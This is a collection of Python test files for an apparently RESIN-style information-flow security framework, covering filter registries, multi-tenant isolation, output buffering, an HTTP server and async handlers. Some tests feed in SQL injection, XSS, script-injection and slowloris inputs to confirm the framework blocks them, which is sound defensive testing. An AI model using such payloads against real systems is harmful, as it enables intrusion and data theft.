            "http", lambda ctx: Custom(ctx))
        assert isinstance(resin.channel("http").filter.filters[0], Custom)
        # Another environment in the same process is unaffected.
        assert isinstance(Resin().channel("http").filter.filters[0],
                          DefaultFilter)
        resin.reset_filters("http")
        assert isinstance(resin.channel("http").filter.filters[0],
                          DefaultFilter)

    def test_unknown_assertion(self, resin):
        with pytest.raises(KeyError):
            resin.assertion("no-such-assertion")

    def test_sql_injection_assertion(self, resin):
        resin.db.execute_unchecked("CREATE TABLE t (c TEXT)")
        resin.assertion("sql-injection", strategy="structure").install()
        evil = resin.taint("x' OR '1'='1", UntrustedData("p"))
        from repro.tracking.propagation import concat
        with pytest.raises(InjectionViolation):
            resin.db.query(concat("SELECT c FROM t WHERE c = '", evil, "'"))

    def test_xss_assertion_on_channel(self, resin):
        page = resin.channel("http", user="viewer")
        resin.assertion("xss").install(page)
        evil = resin.taint("<script>x</script>", UntrustedData("p"))
        with pytest.raises(InjectionViolation):
            page.write(evil)

    def test_script_injection_assertion_scoped(self, resin):
        resin.fs.mkdir("/app")
        resin.fs.write_text("/app/good.py", "globals_dict['ran'] = True")
        resin.assertion("script-injection").install()
        resin.approve_code("/app/good.py")
        resin.interpreter.execute_file("/app/good.py")
        assert resin.interpreter.globals["ran"]
        with pytest.raises(ScriptInjectionViolation):
            resin.interpreter.execute_source("globals_dict['evil'] = True")
        # uninstall restores the permissive default for this environment
        resin.assertion("script-injection").uninstall()
        resin.interpreter.execute_source("globals_dict['after'] = True")
        assert resin.interpreter.globals["after"]

    def test_request_scope_releases_on_success(self, resin):
        with resin.request(user="alice") as http:
            http.write("hello")
            assert http.body() == ""          # still buffered
        assert http.body() == "hello"
        assert resin.fs.request_context == {}

    def test_request_scope_discards_on_violation(self, resin):
        secret = resin.policy(PasswordPolicy, "owner@b.c").on("pw")
        with pytest.raises(DisclosureViolation):
            with resin.request(user="mallory@b.c") as http:
                http.write("<h1>debug</h1>")
                http.write(secret)
        assert http.body() == ""              # partial page never escaped
        assert resin.fs.request_context == {}

    def test_request_scope_sets_fs_context(self, resin):
        with resin.request(user="alice"):
            assert resin.fs.request_context == {"user": "alice"}
        assert resin.fs.request_context == {}

    def test_nested_request_scope_restores_outer_user(self, resin):
        with resin.request(user="alice"):
            with resin.request(user="bob"):
                assert resin.fs.request_context == {"user": "bob"}
            # the inner scope hands alice's context back, not {}
            assert resin.fs.request_context == {"user": "alice"}
        assert resin.fs.request_context == {}

    def test_web_handle_restores_enclosing_request_context(self, resin):
        from repro.web.app import WebApplication
        from repro.web.request import Request
        web = WebApplication(resin.env)

        @web.route("/page")
        def page(request, response):
            response.write("ok")

        with resin.request(user="alice"):
            web.handle(Request("/page", user="bob"))
            assert resin.fs.request_context == {"user": "alice"}

    def test_sql_channel_rejects_arguments(self, resin):
        with pytest.raises(FilterError):
            resin.channel("sql", persist_policies=False)

    def test_script_injection_install_on_target_env(self, resin):
        from repro.interp.filters import InterpreterFilter
        other = Environment()
        resin.assertion("script-injection").install(other)
        assert isinstance(
            other.interpreter.new_channel().filter.filters[0],
            InterpreterFilter)
        # the resin's own environment stays permissive
        assert isinstance(
            resin.interpreter.new_channel().filter.filters[0],
            DefaultFilter)

    def test_uninstall_hits_the_env_it_was_installed_on(self, resin):
        other = Environment()
        handle = resin.assertion("script-injection").install(other)
        handle.uninstall()
        assert isinstance(
            other.interpreter.new_channel().filter.filters[0],
            DefaultFilter)
        assert other.registry.overrides() == ()

    def test_assertion_object_is_reusable(self, resin):
        from repro.security.assertions import HTMLGuardFilter
        page_a = resin.channel("http")
        page_b = resin.channel("http")
        handle = resin.assertion("xss", on=page_a)
        handle.install()
        handle.install(page_b)      # a second install must not fail
        assert any(isinstance(f, HTMLGuardFilter)
                   for f in page_a.filter.filters)
        assert any(isinstance(f, HTMLGuardFilter)
                   for f in page_b.filter.filters)


class TestEnvironmentHttpShim:
    def test_shared_channel_is_cached(self, env):
        assert env.http is env.http

    def test_reset_http_gives_clean_channel(self, env):
        first = env.http
        first.set_user("alice")
        first.write("scenario one output")
        env.reset_http()
        second = env.http
        assert second is not first
        assert second.body() == ""
        assert second.context.get("user") is None
