"""Shared test fixtures."""

import pytest

from repro.core.runtime import reset_default_filters
from repro.environment import Environment


@pytest.fixture(autouse=True)
def _reset_global_default_filters():
    """Some assertions (script injection) replace process-wide default
    filters; make sure every test starts and ends with the built-in ones."""
    reset_default_filters()
    yield
    reset_default_filters()


@pytest.fixture
def env():
    """A fresh RESIN environment."""
    return Environment()
