"""Shared test fixtures."""

import pytest

from repro.core.registry import default_registry
from repro.environment import Environment
from repro.runtime_api import Resin


@pytest.fixture(autouse=True)
def _reset_global_default_filters():
    """Some pre-registry code paths (the deprecated free functions) mutate
    the process-wide default registry; make sure every test starts and ends
    with the built-in filters.  Environment-scoped registries need no such
    hygiene — each test's environments are born isolated."""
    default_registry().reset()
    yield
    default_registry().reset()


@pytest.fixture
def env():
    """A fresh RESIN environment."""
    return Environment()


@pytest.fixture
def resin(env):
    """The fluent facade over a fresh environment."""
    return Resin(env)
