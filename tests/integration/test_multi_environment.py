"""Integration tests: concurrent environments in one process.

The registry redesign exists so that two tenants (two ``Environment``
instances) can register different default filters for the *same* channel
type and serve interleaved requests without cross-contamination — the bug
the old process-global factory table made unavoidable.  These tests pin that
behaviour down, plus the ``OutputBuffer`` nesting-under-exceptions semantics
applications rely on when assertions drive their access checks.
"""

import pytest

from repro.core import DefaultFilter, Filter, OutputBuffer
from repro.core.exceptions import (PolicyViolation,
                                   ScriptInjectionViolation)
from repro.environment import Environment
from repro.interp.filters import InterpreterFilter
from repro.policies import PasswordPolicy
from repro.runtime_api import Resin
from repro.security.assertions import install_script_injection_assertion


class TestConcurrentEnvironments:
    def test_different_code_filters_interleaved(self):
        """Tenant A enforces script injection; tenant B does not.  Their
        requests interleave; neither observes the other's filter."""
        protected = Resin()
        unprotected = Resin()
        protected.fs.mkdir("/app")
        protected.fs.write_text("/app/page.py",
                                "globals_dict['ok'] = True")
        protected.assertion("script-injection").install()
        protected.approve_code("/app/page.py")

        for _ in range(3):   # interleave several "requests" per tenant
            # tenant B runs arbitrary (unapproved) code: permissive default
            unprotected.interpreter.execute_source(
                "globals_dict['any'] = True")
            assert unprotected.interpreter.globals["any"]
            # tenant A runs its approved page: allowed
            protected.interpreter.execute_file("/app/page.py")
            assert protected.interpreter.globals["ok"]
            # tenant A refuses unapproved code *in the same interleaving*
            with pytest.raises(ScriptInjectionViolation):
                protected.interpreter.execute_source(
                    "globals_dict['evil'] = True")
            assert "evil" not in protected.interpreter.globals

    def test_two_custom_code_filters_do_not_cross_contaminate(self):
        """The acceptance scenario: two environments register *different*
        default filters for the "code" channel type in one process."""
        seen_a, seen_b = [], []

        class TagA(Filter):
            def filter_read(self, data, offset=0):
                seen_a.append(str(data))
                return data

        class TagB(Filter):
            def filter_read(self, data, offset=0):
                seen_b.append(str(data))
                return data

        env_a, env_b = Environment(), Environment()
        env_a.registry.set_default_filter_factory("code", TagA)
        env_b.registry.set_default_filter_factory("code", TagB)

        env_a.interpreter.execute_source("globals_dict['who'] = 'a'")
        env_b.interpreter.execute_source("globals_dict['who'] = 'b'")
        env_a.interpreter.execute_source("globals_dict['again'] = 'a'")

        assert len(seen_a) == 2 and len(seen_b) == 1
        assert all("'a'" in code for code in seen_a)
        assert all("'b'" in code for code in seen_b)
        # And a third, untouched environment still gets the builtin filter.
        env_c = Environment()
        assert isinstance(
            env_c.interpreter.new_channel().filter.filters[0], DefaultFilter)

    def test_global_shim_installs_for_all_unscoped_environments(self):
        """The deprecated process-wide install still works: environments
        without a local override inherit it through the registry chain."""
        install_script_injection_assertion()      # no env: process-wide
        try:
            env = Environment()
            assert isinstance(
                env.interpreter.new_channel().filter.filters[0],
                InterpreterFilter)
            # ... but a scoped override still wins over the global one.
            scoped = Environment()
            scoped.registry.set_default_filter_factory("code", DefaultFilter)
            scoped.interpreter.execute_source("globals_dict['ran'] = True")
            assert scoped.interpreter.globals["ran"]
        finally:
            from repro.core import default_registry
            default_registry().reset()

    def test_mail_and_db_resolve_through_owning_environment(self):
        """Substrate channels (email, sql) also consult their environment's
        registry, not the process-wide one."""
        hits = []

        class Recording(DefaultFilter):
            def filter_write(self, data, offset=0):
                hits.append(self.context.get("email"))
                return super().filter_write(data, offset)

        env = Environment()
        env.registry.set_default_filter_factory("email", Recording)
        env.mail.send(to="a@b.c", subject="s", body="hello")
        assert hits == ["a@b.c"]
        other = Environment()
        other.mail.send(to="x@y.z", subject="s", body="hello")
        assert hits == ["a@b.c"]          # other env never hit Recording


class TestOutputBufferNesting:
    def test_exception_at_depth_two_discards_only_inner(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        with pytest.raises(PolicyViolation):
            with buffer:                       # depth 1
                buffer.write("outer")
                with buffer:                   # depth 2
                    buffer.write("inner")
                    raise PolicyViolation("assertion fired")
        # The exception unwound both buffers: the outer context manager saw
        # the exception too, so nothing escaped to the sink.
        assert sink == []

    def test_inner_violation_handled_outer_released(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        with buffer:                           # depth 1
            buffer.write("header")
            try:
                with buffer:                   # depth 2
                    buffer.write("secret")
                    raise PolicyViolation("assertion fired")
            except PolicyViolation:
                buffer.write("Anonymous")
        assert sink == ["header", "Anonymous"]
        assert buffer.depth == 0

    def test_depth_three_mixed_release_discard(self):
        sink = []
        buffer = OutputBuffer(sink.append)
        buffer.start()
        buffer.write("a")
        buffer.start()
        buffer.write("b")
        buffer.start()
        buffer.write("c")
        buffer.discard("C")                     # depth 3 replaced
        buffer.release()                        # depth 2 -> depth 1
        buffer.release()                        # depth 1 -> sink
        assert sink == ["a", "b", "C"]

    def test_http_channel_nested_buffering_under_violation(self):
        """The Section 5.5 pattern at depth 2 on a real HTTP channel: an
        inner assertion failure swaps in alternate output, the outer buffer
        releases the page."""
        resin = Resin()
        secret = resin.policy(PasswordPolicy, "owner@b.c").on("pw")
        response = resin.channel("http", user="mallory@b.c")
        response.start_buffering()              # depth 1: whole page
        response.write("<body>")
        response.start_buffering()              # depth 2: author/password bit
        try:
            response.write(secret)
            response.release_buffer()
        except PolicyViolation:
            response.discard_buffer("[redacted]")
        response.write("</body>")
        assert response.body() == ""
        response.release_buffer()
        assert response.body() == "<body>[redacted]</body>"
