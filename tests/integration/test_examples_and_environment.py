"""Integration tests: the Environment facade and the shipped examples.

Every example in ``examples/`` must run cleanly — they are part of the
public documentation, so a regression there is a regression in the library.
"""

import pathlib
import runpy

import pytest

from repro.core.api import policy_add
from repro.core.exceptions import DisclosureViolation
from repro.environment import Environment
from repro.policies import PasswordPolicy

EXAMPLES_DIR = pathlib.Path(__file__).resolve().parents[2] / "examples"
EXAMPLES = sorted(EXAMPLES_DIR.glob("*.py"))


class TestEnvironment:
    def test_components_wired(self):
        env = Environment()
        assert env.fs is not None and env.db is not None
        assert env.mail is not None and env.interpreter.env is env
        assert len(env.sessions) == 0

    def test_channel_factories(self):
        env = Environment()
        http = env.http_channel(user="alice", priv_chair=True, url="/x")
        assert http.context["user"] == "alice"
        assert http.context["priv_chair"] is True
        assert env.socket("peer").peer == "peer"
        assert env.pipe("sendmail").command == "sendmail"

    def test_shared_http_shim(self):
        env = Environment()
        assert env.http is env.http

    def test_environments_are_isolated(self):
        first, second = Environment(), Environment()
        first.fs.write_text("/only-here.txt", "data")
        assert not second.fs.exists("/only-here.txt")
        first.db.execute_unchecked("CREATE TABLE t (a TEXT)")
        assert "t" not in second.db.engine.tables

    def test_end_to_end_password_flow(self):
        env = Environment()
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))
        env.fs.write_text("/secret", secret)
        env.mail.send("owner@example.org", "hi", env.fs.read_text("/secret"))
        with pytest.raises(DisclosureViolation):
            env.http_channel(user="eve").write(env.fs.read_text("/secret"))


@pytest.mark.parametrize("example", EXAMPLES, ids=[e.name for e in EXAMPLES])
def test_example_runs(example, capsys):
    assert EXAMPLES, "examples directory should not be empty"
    runpy.run_path(str(example), run_name="__main__")
    out = capsys.readouterr().out
    assert out.strip(), f"{example.name} produced no output"
    assert "Traceback" not in out
