"""The HTTP/1.1 socket server, exercised over real loopback connections.

Everything here talks to a live ``HTTPServer`` on a background thread
(``ServerHandle``) through ``http.client`` or raw sockets: keep-alive and
pipelining, chunked streaming with a taint check per frame, multi-value
headers on the wire, slowloris/408 and idle-timeout behaviour, premature
disconnects, backpressure, graceful drain, and the ``Resin.serve`` entry
point.
"""

import http.client
import socket
import threading
import time

import pytest

from repro.core.api import policy_add
from repro.environment import Environment
from repro.policies import PasswordPolicy
from repro.runtime_api import Resin
from repro.server.http import HTTPServer, ServerHandle
from repro.web.app import WebApplication
from repro.web.response import Response


def build_app(env=None):
    app = WebApplication(env or Environment(), "socket-app")

    @app.route("/hello")
    def hello(request, response):
        return Response("hello over the wire")

    @app.route("/whoami")
    def whoami(request, response):
        return Response(f"user={request.user}")

    @app.route("/echo", methods=["POST"])
    def echo(request, response):
        return Response(f"name={request.params.get('name')}")

    @app.route("/cookies")
    def cookies(request, response):
        return (Response(f"sid={request.cookies.get('sid')}")
                .header("Set-Cookie", "a=1; Path=/")
                .header("Set-Cookie", "b=2; Path=/"))

    @app.route("/stream")
    def stream(request, response):
        def chunks():
            for index in range(4):
                yield f"piece-{index};"
        return Response().stream(chunks())

    @app.route("/astream")
    def astream(request, response):
        async def chunks():
            for index in range(3):
                yield f"async-{index};"
        return Response().stream(chunks())

    @app.route("/leak")
    def leak(request, response):
        secret = policy_add("s3cret", PasswordPolicy("owner@example.org"))

        def chunks():
            yield "public-prefix;"
            yield secret  # the assertion fires at the channel, mid-stream
            yield "never-reached;"
        return Response().stream(chunks())

    @app.route("/boom")
    def boom(request, response):
        raise RuntimeError("handler bug")

    return app


def serve(app, **options):
    options.setdefault("idle_timeout", 5.0)
    return ServerHandle(HTTPServer(app, **options)).start()


def raw_exchange(port, payload, timeout=5.0):
    """Send ``payload`` on a fresh socket and read until the server closes."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(payload)
        sock.shutdown(socket.SHUT_WR)
        received = b""
        while True:
            data = sock.recv(65536)
            if not data:
                return received
            received += data


class TestBasicServing:
    def test_get_and_keep_alive_reuse(self):
        with serve(build_app()) as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                for _ in range(3):  # same connection, three exchanges
                    conn.request("GET", "/hello")
                    reply = conn.getresponse()
                    assert reply.status == 200
                    assert reply.read() == b"hello over the wire"
            finally:
                conn.close()

    def test_post_form_body_reaches_params(self):
        with serve(build_app()) as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                conn.request(
                    "POST", "/echo", body="name=resin",
                    headers={"Content-Type":
                             "application/x-www-form-urlencoded"})
                reply = conn.getresponse()
                assert reply.read() == b"name=resin"
            finally:
                conn.close()

    def test_user_header_sets_the_principal(self):
        with serve(build_app(), user_header="x-resin-user") as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                conn.request("GET", "/whoami",
                             headers={"X-Resin-User": "alice"})
                assert conn.getresponse().read() == b"user=alice"
            finally:
                conn.close()

    def test_404_405_and_501(self):
        with serve(build_app()) as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                conn.request("GET", "/missing")
                reply = conn.getresponse()
                assert reply.status == 404
                reply.read()
                conn.request("GET", "/echo")  # POST-only route
                reply = conn.getresponse()
                assert reply.status == 405
                assert "POST" in (reply.getheader("Allow") or "")
                reply.read()
            finally:
                conn.close()
            raw = raw_exchange(handle.port,
                               b"BREW /coffee HTTP/1.1\r\nHost: h\r\n\r\n")
            assert raw.startswith(b"HTTP/1.1 501 ")

    def test_handler_exception_is_500_and_closes(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(handle.port,
                               b"GET /boom HTTP/1.1\r\nHost: h\r\n\r\n")
            assert raw.startswith(b"HTTP/1.1 500 ")
            assert b"Connection: close" in raw

    def test_head_sends_headers_but_no_body(self):
        with serve(build_app()) as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                conn.request("HEAD", "/hello")
                reply = conn.getresponse()
                assert reply.status == 200
                assert reply.read() == b""
            finally:
                conn.close()


class TestWireFormat:
    def test_pipelined_requests_answered_in_order(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(
                handle.port,
                b"GET /hello HTTP/1.1\r\nHost: h\r\n\r\n"
                b"GET /whoami HTTP/1.1\r\nHost: h\r\n"
                b"Connection: close\r\n\r\n")
            first, _, second = raw.partition(b"user=None")
            assert first.count(b"HTTP/1.1 200") == 2
            assert b"hello over the wire" in first

    def test_multi_value_headers_are_repeated_lines(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(
                handle.port,
                b"GET /cookies HTTP/1.1\r\nHost: h\r\n"
                b"Cookie: sid=xyz\r\nConnection: close\r\n\r\n")
            head = raw.split(b"\r\n\r\n", 1)[0]
            cookie_lines = [line for line in head.split(b"\r\n")
                            if line.lower().startswith(b"set-cookie:")]
            assert cookie_lines == [b"Set-Cookie: a=1; Path=/",
                                    b"Set-Cookie: b=2; Path=/"]
            assert b"sid=xyz" in raw

    def test_http_10_defaults_to_close(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(handle.port,
                               b"GET /hello HTTP/1.0\r\nHost: h\r\n\r\n")
            assert b"Connection: close" in raw

    @pytest.mark.parametrize("payload,status", [
        (b"GET /page HTTP/9.9\r\n\r\n", b"400"),
        (b"GET / HTTP/1.1\r\nHost : bad\r\n\r\n", b"400"),
        (b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
         b"Content-Length: 4\r\n\r\n", b"400"),
    ])
    def test_parse_errors_get_their_status_and_close(self, payload, status):
        with serve(build_app()) as handle:
            raw = raw_exchange(handle.port, payload)
            assert raw.startswith(b"HTTP/1.1 " + status)

    def test_oversized_header_section_is_431(self):
        from repro.server.http import ParserLimits
        limits = ParserLimits(max_header_bytes=256)
        with serve(build_app(), limits=limits) as handle:
            raw = raw_exchange(
                handle.port,
                b"GET /hello HTTP/1.1\r\nX-Pad: " + b"a" * 1000 + b"\r\n\r\n")
            assert raw.startswith(b"HTTP/1.1 431 ")


class TestStreaming:
    def test_sync_generator_streams_as_chunked(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(
                handle.port,
                b"GET /stream HTTP/1.1\r\nHost: h\r\n"
                b"Connection: close\r\n\r\n")
            head, body = raw.split(b"\r\n\r\n", 1)
            assert b"Transfer-Encoding: chunked" in head
            # Four frames, one per yielded piece, then the terminator.
            assert body.count(b"piece-") == 4
            assert body.endswith(b"0\r\n\r\n")

    def test_async_generator_streams_as_chunked(self):
        with serve(build_app()) as handle:
            conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                              timeout=5)
            try:
                conn.request("GET", "/astream")
                reply = conn.getresponse()
                assert reply.getheader("Transfer-Encoding") == "chunked"
                assert reply.read() == b"async-0;async-1;async-2;"
            finally:
                conn.close()

    def test_policy_violation_mid_stream_truncates_the_body(self):
        """The disallowed piece fires the assertion at ``channel.write``:
        the secret never reaches the wire, the chunked body is left without
        its terminating frame, and the connection closes."""
        with serve(build_app()) as handle:
            raw = raw_exchange(
                handle.port,
                b"GET /leak HTTP/1.1\r\nHost: h\r\n\r\n")
            assert b"public-prefix;" in raw
            assert b"s3cret" not in raw
            assert b"never-reached" not in raw
            assert not raw.endswith(b"0\r\n\r\n")  # truncated, not completed

    def test_head_on_streaming_route_never_drains_the_stream(self):
        with serve(build_app()) as handle:
            raw = raw_exchange(
                handle.port,
                b"HEAD /leak HTTP/1.1\r\nHost: h\r\n"
                b"Connection: close\r\n\r\n")
            assert raw.startswith(b"HTTP/1.1 200 ")
            assert b"s3cret" not in raw
            assert raw.endswith(b"0\r\n\r\n")  # empty chunked body


class TestTimeoutsAndDisconnects:
    def test_slowloris_half_request_gets_408(self):
        with serve(build_app(), read_timeout=0.4) as handle:
            with socket.create_connection(("127.0.0.1", handle.port),
                                          timeout=5) as sock:
                sock.sendall(b"GET /hel")  # the request never completes
                received = b""
                while True:
                    data = sock.recv(65536)
                    if not data:
                        break
                    received += data
                assert received.startswith(b"HTTP/1.1 408 ")

    def test_idle_keep_alive_connection_closes_quietly(self):
        with serve(build_app(), idle_timeout=0.3) as handle:
            with socket.create_connection(("127.0.0.1", handle.port),
                                          timeout=5) as sock:
                assert sock.recv(65536) == b""  # EOF, no 408, no noise

    def test_client_disconnect_mid_body_leaves_server_healthy(self):
        with serve(build_app()) as handle:
            with socket.create_connection(("127.0.0.1", handle.port),
                                          timeout=5) as sock:
                sock.sendall(b"POST /echo HTTP/1.1\r\nHost: h\r\n"
                             b"Content-Length: 100\r\n\r\nonly-a-few")
            # The next connection is served normally.
            raw = raw_exchange(handle.port,
                               b"GET /hello HTTP/1.1\r\nHost: h\r\n\r\n")
            assert b"hello over the wire" in raw


class TestBackpressureAndDrain:
    def test_concurrent_connections_under_small_in_flight_bound(self):
        """Sixteen clients against a 2-slot dispatcher: every request is
        served (excess admission waits on the semaphore, reads pause)."""
        env = Environment()
        app = build_app(env)

        @app.route("/slow")
        def slow(request, response):
            time.sleep(0.02)
            return Response("slept")

        outcomes = []
        with serve(app, workers=2, max_in_flight=2) as handle:
            def client():
                conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                                  timeout=10)
                try:
                    for _ in range(2):
                        conn.request("GET", "/slow")
                        reply = conn.getresponse()
                        outcomes.append((reply.status, reply.read()))
                finally:
                    conn.close()

            threads = [threading.Thread(target=client) for _ in range(16)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
        assert len(outcomes) == 32
        assert all(status == 200 and body == b"slept"
                   for status, body in outcomes)

    def test_drain_closes_idle_keep_alive_connections(self):
        handle = serve(build_app())
        sock = socket.create_connection(("127.0.0.1", handle.port), timeout=5)
        try:
            sock.sendall(b"GET /hello HTTP/1.1\r\nHost: h\r\n\r\n")
            first = sock.recv(65536)
            assert first.startswith(b"HTTP/1.1 200 ")
            handle.close()  # drain: the parked keep-alive socket is closed
            sock.settimeout(5)
            leftover = b"x"
            try:
                while leftover:
                    leftover = sock.recv(65536)
            except (ConnectionError, OSError):
                pass  # an abort may surface as ECONNRESET — equally closed
        finally:
            sock.close()

    def test_close_is_idempotent(self):
        handle = serve(build_app())
        handle.close()
        handle.close()


class TestEntryPoints:
    def test_resin_serve_returns_a_live_handle(self):
        env = Environment()
        app = build_app(env)
        with Resin(env).serve(app) as handle:
            assert handle.url.startswith("http://127.0.0.1:")
            raw = raw_exchange(handle.port,
                               b"GET /hello HTTP/1.1\r\nHost: h\r\n\r\n")
            assert b"hello over the wire" in raw

    def test_scoped_middleware_over_http(self):
        env = Environment()
        app = build_app(env)
        seen = []

        @app.middleware(prefix="/admin")
        def audit(request):
            seen.append(request.path)
            return None

        @app.route("/admin/panel")
        def panel(request, response):
            return Response("panel")

        with serve(app) as handle:
            for target in (b"/hello", b"/admin/panel"):
                raw_exchange(handle.port,
                             b"GET " + target + b" HTTP/1.1\r\n"
                             b"Host: h\r\n\r\n")
        assert seen == ["/admin/panel"]

    def test_serve_async_context_manager_on_a_loop(self):
        import asyncio

        env = Environment()
        app = build_app(env)

        async def scenario():
            async with Resin(env).serve_async(app) as server:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", server.port)
                writer.write(b"GET /hello HTTP/1.1\r\nHost: h\r\n"
                             b"Connection: close\r\n\r\n")
                await writer.drain()
                raw = await reader.read()
                writer.close()
                return raw

        raw = asyncio.run(scenario())
        assert b"hello over the wire" in raw
