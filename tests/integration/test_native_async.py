"""Integration tests for loop-native ``async def`` handlers.

The contract under test: a request that resolves to a coroutine handler is
awaited directly on the event loop by ``AsyncDispatcher`` — no executor hop
— inside its own ``RequestContext`` binding, while sync handlers keep the
executor path; cancellation of an in-flight native handler unwinds the
context and its per-request database filter overlay.
"""

import asyncio
import threading

import pytest

from repro.core.exceptions import PolicyViolation
from repro.core.filter import Filter
from repro.core.request_context import current_request
from repro.environment import Environment
from repro.runtime_api import Resin
from repro.server.async_dispatcher import AsyncDispatcher
from repro.web import Request, Response


@pytest.fixture
def resin():
    return Resin(Environment())


def test_native_handler_runs_on_the_loop_thread(resin):
    app = resin.app("native")
    threads = {}

    @app.route("/native")
    async def native(request, response):
        threads["native"] = threading.current_thread()
        await asyncio.sleep(0)
        return "native done"

    @app.route("/sync")
    def sync(request, response):
        threads["sync"] = threading.current_thread()
        response.write("sync done")

    async def main():
        loop_thread = threading.current_thread()
        async with AsyncDispatcher(app, workers=2, resin=resin) as server:
            native_response, sync_response = await server.dispatch_all(
                [Request("/native"), Request("/sync")])
        assert native_response.body() == "native done"
        assert sync_response.body() == "sync done"
        # the coroutine handler never left the loop thread ...
        assert threads["native"] is loop_thread
        # ... while the sync handler took the executor path
        assert threads["sync"] is not loop_thread

    asyncio.run(main())


def test_native_handler_sees_its_request_context(resin):
    app = resin.app("ctx")

    @app.route("/whoami/<int:n>")
    async def whoami(request, response, n):
        rctx = current_request()
        assert rctx is not None and rctx.env is resin.env
        await asyncio.sleep(0.001 * (n % 3))
        return f"{rctx.user}:{rctx.route_params['n']}"

    async def main():
        async with AsyncDispatcher(app, workers=2, resin=resin) as server:
            requests = [Request(f"/whoami/{i}", user=f"user-{i}")
                        for i in range(12)]
            responses = await server.dispatch_all(requests)
        for i, response in enumerate(responses):
            assert response.body() == f"user-{i}:{i}"
        # nothing leaked into the loop's own context
        assert current_request() is None

    asyncio.run(main())


def test_native_handlers_interleave_without_executor_threads(resin):
    """16 concurrent I/O-bound coroutine handlers overlap on ONE worker —
    proof there is no executor hop bounding the concurrency."""
    app = resin.app("overlap")
    in_flight = {"now": 0, "max": 0}

    @app.route("/io")
    async def io(request, response):
        in_flight["now"] += 1
        in_flight["max"] = max(in_flight["max"], in_flight["now"])
        await asyncio.sleep(0.02)
        in_flight["now"] -= 1
        return "ok"

    async def main():
        async with AsyncDispatcher(app, workers=1, max_in_flight=16,
                                   resin=resin) as server:
            responses = await server.dispatch_all(
                [Request("/io") for _ in range(16)])
        assert all(r.body() == "ok" for r in responses)
        assert in_flight["max"] == 16

    asyncio.run(main())


def test_cancelling_native_handler_unwinds_context_and_overlay(resin):
    """Cancel an in-flight ``async def`` handler at its await point: the
    CancelledError must surface through its task only, the RequestContext
    must unbind, and the request's database filter overlay must pop."""
    app = resin.app("cancel")
    db = resin.env.db
    db.execute_unchecked("CREATE TABLE t (id INTEGER)")
    state = {}

    class Recording(Filter):
        def filter_func(self, func, args, kwargs):
            return func(*args, **kwargs)

    @app.route("/slow")
    async def slow(request, response):
        db.add_filter(Recording())        # request-scoped overlay
        state["rctx"] = current_request()
        state["overlay"] = state["rctx"].db_filters(db)
        state["started"].set()
        await asyncio.sleep(30)
        state["finished"] = True

    async def main():
        state["started"] = asyncio.Event()
        async with AsyncDispatcher(app, workers=1, resin=resin) as server:
            task = server.submit(Request("/slow", user="alice"))
            await asyncio.wait_for(state["started"].wait(), timeout=5)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
        # the overlay was installed while the request ran ...
        assert len(state["overlay"]) == 1
        # ... and the context unwound with the cancellation
        assert "finished" not in state
        assert not state["rctx"].active
        assert current_request() is None
        # the shared database no longer sees the request's filter
        db.query("SELECT id FROM t")

    asyncio.run(main())


def test_mixed_native_and_executor_violations_stay_per_request(resin):
    """A PolicyViolation from a native handler surfaces through its own
    task, exactly as the executor path always did."""
    from repro.core.api import policy_add
    from repro.policies.password import PasswordPolicy

    app = resin.app("mixed")
    secret = policy_add("pw", PasswordPolicy("owner@example.org"))

    @app.route("/leak-async")
    async def leak_async(request, response):
        await asyncio.sleep(0)
        return "dump " + secret

    @app.route("/ok-sync")
    def ok_sync(request, response):
        return Response("fine")

    async def main():
        async with AsyncDispatcher(app, workers=2, resin=resin) as server:
            results = await server.dispatch_all(
                [Request("/leak-async", user="mallory"),
                 Request("/ok-sync", user="alice")],
                return_exceptions=True)
        assert isinstance(results[0], PolicyViolation)
        assert results[1].body() == "fine"

    asyncio.run(main())


def test_method_and_params_through_the_async_front_end(resin):
    """405-vs-404 and converter failures behave identically behind the
    event-loop front end."""
    app = resin.app("edges")

    @app.route("/paper/<int:pid>", methods=["GET"])
    async def paper(request, response, pid):
        await asyncio.sleep(0)
        return f"paper {pid}"

    async def main():
        async with AsyncDispatcher(app, workers=2, resin=resin) as server:
            ok, bad_method, bad_param, missing = await server.dispatch_all(
                [Request("/paper/9"),
                 Request("/paper/9", method="DELETE"),
                 Request("/paper/x"),
                 Request("/nope")])
        assert ok.body() == "paper 9"
        assert bad_method.status == 405
        assert bad_param.status == 404
        assert missing.status == 404

    asyncio.run(main())
