"""Integration tests: HotCRP scenarios (Sections 2, 3.1, 5.5, 6)."""

import pytest

from repro.apps.hotcrp import HotCRP
from repro.core.api import policy_get
from repro.core.exceptions import DisclosureViolation, HTTPError, PolicyViolation
from repro.environment import Environment
from repro.policies import PasswordPolicy


@pytest.fixture
def site():
    site = HotCRP(Environment(), use_resin=True)
    site.register_user("victim@example.org", "victim-password")
    site.register_user("pc@example.org", "pc-password", is_pc=True)
    site.register_user("chair@example.org", "chair-password", is_pc=True,
                       priv_chair=True)
    site.submit_paper(1, "RESIN", "Abstract text. " * 30,
                      ["author@example.org"], anonymous=True)
    site.submit_paper(2, "Open Paper", "Public abstract.",
                      ["open@example.org"], anonymous=False)
    site.add_review(1, "pc@example.org", "Accept.", released=False)
    return site


@pytest.fixture
def legacy_site():
    site = HotCRP(Environment(), use_resin=False)
    site.register_user("victim@example.org", "victim-password")
